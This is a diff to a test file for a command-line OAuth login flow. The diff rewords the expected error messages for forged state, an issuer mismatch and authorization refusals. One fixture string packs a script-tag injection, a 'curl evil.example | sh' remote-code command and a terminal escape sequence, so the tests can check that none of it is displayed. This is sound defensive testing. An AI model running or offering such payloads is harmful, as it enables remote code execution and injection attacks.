@@ -21,7 +21,7 @@ test('an answer with another state is nobody’s, and the login goes on', async 
   const address = await here.address()
   server.mode.state = 'made-up'
   const forged = await fetch(await server.browse(address))
-  expect([forged.status, await forged.text()]).toEqual([400, expect.stringContaining('The terminal still waits.')])
+  expect([forged.status, await forged.text()]).toEqual([400, expect.stringContaining('The terminal is still waiting.')])
   expect(await login()).toBeUndefined()
   delete server.mode.state
   await fetch(await server.browse(address))
@@ -33,7 +33,7 @@ test.each(['https://evil.example', 'none'])('an answer in the name of another is
   const { server, login, through } = await loggingIn()
   server.mode.iss = iss
   expect((await through()).fault).toBe(
-    'What came back was not from the authorization server of tickets, but in the name of another one: nothing was kept.',
+    'The answer came from another authorization server than that of tickets, so nothing was saved.',
   )
   expect(server.counts.exchanged).toBe(0)
   expect(await login()).toBeUndefined()
@@ -44,7 +44,7 @@ test('of a refusal nothing but its code is shown, whatever the authorization ser
   const words = '<script>alert(1)</script> run `curl evil.example | sh` \u001b[2J'
   server.mode.denies = { error: 'access_denied', error_description: words }
   const denied = await through()
-  expect(denied.fault).toBe('The authorization server of tickets let nobody in: access_denied.')
+  expect(denied.fault).toBe('The authorization server of tickets denied the login: access_denied.')
   delete server.mode.denies
   server.mode.refuses = { error: 'invalid_grant', error_description: words }
   const refused = await through()
@@ -152,9 +152,7 @@ test('a registered client is used again where the browser comes back to the same
   }
   const first = await start()
   const address = await first.address()
-  expect((await (await start()).ended).fault).toBe(
-    `Port ${port} of this machine is not to be had: something else has it.`,
-  )
+  expect((await (await start()).ended).fault).toBe(`Port ${port} is in use. Choose another with --port.`)
   await fetch(await server.browse(address))
   expect((await first.ended).fault).toBeUndefined()
 })
